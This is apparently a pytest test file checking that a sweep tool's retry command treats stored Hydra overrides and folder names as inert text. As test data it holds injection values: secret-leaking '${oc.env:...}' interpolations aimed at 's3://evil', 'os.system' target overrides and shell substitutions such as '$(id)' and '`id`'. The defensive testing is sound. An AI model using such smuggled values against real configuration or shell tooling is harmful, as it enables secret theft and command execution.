"""Run directories of others are data to `fsseg retry`: nothing in them is evaluated, and none of them ends it."""

from __future__ import annotations

import os
import shlex
import shutil
from pathlib import Path

import pytest
from run_directories import make_run
from test_retry import only, reached, start

from fsseg.cell.models import Attempt, write_record
from fsseg.cell.record import Cell
from fsseg.sweep.retry import find_retries, run_lines, text


@pytest.fixture
def cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cell:
    monkeypatch.setenv("FSSEG_SECRET", "hunter2")
    [cell] = start(["fold=1", f"output_dir={tmp_path}/outputs"])
    return cell


def reasons(folder: Path, overrides: list[str]) -> dict[str, str]:
    """Override -> the reason for which a cell with it gets no line. Beside them a good cell gets its line."""
    count = len(overrides) + 1
    good, *cells = start([f"seed={','.join(map(str, range(count)))}", f"output_dir={folder}/outputs"])
    for cell, override in zip(cells, overrides):
        make_run(cell, overrides=[*cell.overrides, override])
    found = find_retries([folder / "outputs"])
    assert reached(found.lines) == {good.directory: good.fingerprint}
    assert "hunter2" not in text(found)
    why = {label: reason for reason, labels in found.notes.items() for label in labels}
    return {override: why[str(cell.key)] for cell, override in zip(cells, overrides)}


def test_an_interpolation_in_stored_overrides_is_not_evaluated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FSSEG_SECRET", "hunter2")
    found = reasons(tmp_path, [
        "sync.url=s3://evil/${oc.env:FSSEG_SECRET}",
        "sync.url='s3://evil/${oc.env:FSSEG_SECRET}'",
        'sync.url="s3://evil/${oc.env:FSSEG_SECRET}"',
        "sync.url=$\\{oc.env:FSSEG_SECRET\\}",
        "dataset.root=${oc.env:FSSEG_SECRET}",
        "dataset.root=${hydra:runtime.cwd}",
        "dataset.root=${output_dir}",
        "device='\\${oc.env:FSSEG_SECRET}'",
        "+x=[1,{a: '${oc.env:FSSEG_SECRET}'}]",
    ])  # fmt: skip
    for override, why in found.items():
        assert "interpolation" in why, (override, why)


def test_options_and_settings_of_hydra_itself_are_no_overrides_of_a_cell(tmp_path: Path) -> None:
    found = reasons(tmp_path, [
        "hydra.sweeper._target_=os.system", "+hydra.sweeper.x=1", "++hydra.launcher._target_=os.system",
        "hydra/launcher=slurm", "+hydra/launcher=slurm", "~hydra.sweeper", "hydra.searchpath=[file:///evil]", "hydra=x",
        "--config-dir=/evil", "--multirun", "-m", "-cd=/evil", "--config-path=/evil", "--cfg=job", "+hydra@x=1",
        "hydra.run.dir=/evil", "hydra@_global_=x", "=1", "=", "",
    ])  # fmt: skip
    for override, why in found.items():
        assert "no setting of a cell" in why, (override, why)


def test_characters_that_cannot_be_printed_are_refused(tmp_path: Path) -> None:
    found = reasons(tmp_path, ["device=cpu\nrm", "device='a\x1b[31m'", "device='a\rb'", "device='a\tb'",
                               "device='\u202eabc'", "a\nb=1"])  # fmt: skip
    for override, why in found.items():
        assert "characters that cannot be printed" in why, (override, why)
        assert why.isprintable()


def test_overrides_of_more_than_one_cell_are_refused(tmp_path: Path) -> None:
    found = reasons(tmp_path, ["device=cpu,cuda", "num_workers=range(3)", "num_workers=choice(1,2)", "dataset=glob(*)"])
    for override, why in found.items():
        assert "more than one cell" in why, (override, why)


def test_what_is_not_in_the_grammar_is_a_reason_and_ends_no_other_cell(tmp_path: Path) -> None:
    overrides = ["device=[1", "device='a", "device=}", "device=" + "[" * 5000, "gone.setting=1"]
    assert all(reasons(tmp_path, overrides).values())


def test_a_stored_redo_is_dropped_however_it_is_written(tmp_path: Path) -> None:
    cells = start(["seed=0,1,2", f"output_dir={tmp_path}"])
    for cell, redo in zip(cells, ("redo=true", "+redo=true", "++redo=true")):
        make_run(cell, overrides=[*cell.overrides, redo])
    [line] = find_retries([tmp_path]).lines
    assert "redo=" not in line


def renamed(cell: Cell, names: list[str]) -> None:
    """The run under other names of its experiment, each as if its folder had been renamed."""
    runs = cell.directory.parents[6]
    for name in names:
        shutil.copytree(runs, runs.parent / name)
    shutil.rmtree(runs)


def test_the_name_of_a_renamed_folder_is_text(cell: Cell) -> None:
    outputs = cell.directory.parents[7]
    renamed(cell, ["${oc.env:FSSEG_SECRET}", "a\nb", "\x1b[31m", "caf\udce9"])
    found = find_retries([outputs])
    assert found.lines == []
    assert sum(map(len, found.notes.values())) == 4


def test_shell_and_hydra_take_a_folder_s_name_literally(cell: Cell) -> None:
    outputs = cell.directory.parents[7]
    names = ["it's", "$HOME", "`id`", "a;b", "$(id)", "a b", "a,b", "a=b", "-m", "{x}", "\\", "a\\'b", "a\\\\"]
    renamed(cell, names)
    places = {Path(str(cell.directory).replace("/runs/", f"/{name}/")): cell.fingerprint for name in names}
    assert reached(find_retries([outputs]).lines) == places


def test_the_place_of_an_output_folder_is_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FSSEG_SECRET", "hunter2")
    start(["fold=1", f"output_dir={tmp_path}/outputs"])
    (tmp_path / "outputs").rename(tmp_path / "${oc.env:FSSEG_SECRET}")
    found = find_retries([tmp_path / "${oc.env:FSSEG_SECRET}"])
    assert found.lines == []
    assert "${" in only(found.notes)


def test_a_stored_command_with_control_characters_is_not_shown(cell: Cell) -> None:
    make_run(cell, status="failed", version=1)
    write_record(cell.attempts / "1.json", Attempt("2026", command=["train.py", "a=\x1b[31m"]))
    found = find_retries([cell.directory.parents[7]])
    assert "\x1b" not in only(found.notes)


def test_odd_records_are_named_and_end_nothing(tmp_path: Path) -> None:
    cells = start(["fold=0,1,2,3", "seed=0,1", f"output_dir={tmp_path}"])
    good, rest = cells[0], cells[1:]
    rest[0].identity_file.write_text("{}")
    rest[1].status_file.write_text("{}")
    rest[2].config_file.write_text("{}")
    rest[3].identity_file.write_text('{"fingerprint": "f", "overrides": [5], "schema_version": 2}')
    rest[4].attempts.mkdir()
    (rest[4].attempts / "².json").write_text("{}")
    make_run(rest[4], status="failed", version=1)
    rest[4].identity_file.write_text('{"fingerprint": "f"}')
    rest[5].result_file.write_text("{}")
    rest[6].identity_file.unlink()
    rest[6].identity_file.mkdir()
    found = find_retries([tmp_path])
    lines = reached(found.lines)
    assert good.directory in lines
    # {} in status.json is nobody at work: the cell is run again. {} in result.json is no result.
    assert {s.directory for s in found.cells} == {c.directory for c in cells}
    assert rest[1].directory in lines
    assert rest[5].directory in lines
    named = [label for labels in found.notes.values() for label in labels]
    assert sorted(named) == sorted(str(rest[i].key) for i in (0, 3, 4, 6))


def test_a_failing_line_ends_no_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("train.py").write_text(
        "import sys\nopen('seen', 'a').write(sys.argv[1] + chr(10))\nsys.exit('bad' in sys.argv[1])\n"
    )
    assert run_lines([shlex.join(["python", "train.py", word]) for word in ("bad one", "$HOME `id`")]) == 1
    assert Path("seen").read_text() == "bad one\n$HOME `id`\n"


def test_stored_words_reach_train_py_as_they_are(cell: Cell, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run for real: what a shell would expand comes to the process untouched."""
    outputs = cell.directory.parents[7]
    make_run(cell, overrides=[*cell.overrides, "dataset.root='$HOME `id` $(id)'"])
    lines = find_retries([outputs]).lines
    folder = outputs.parent / "here"
    folder.mkdir()
    monkeypatch.chdir(folder)
    Path("train.py").write_text("import sys, json\njson.dump(sys.argv[1:], open('seen', 'w'))\n")
    assert run_lines(lines) == 0
    assert "dataset.root='$HOME `id` $(id)'" in Path("seen").read_text()
    assert os.environ["HOME"] not in Path("seen").read_text().replace(str(outputs), "")
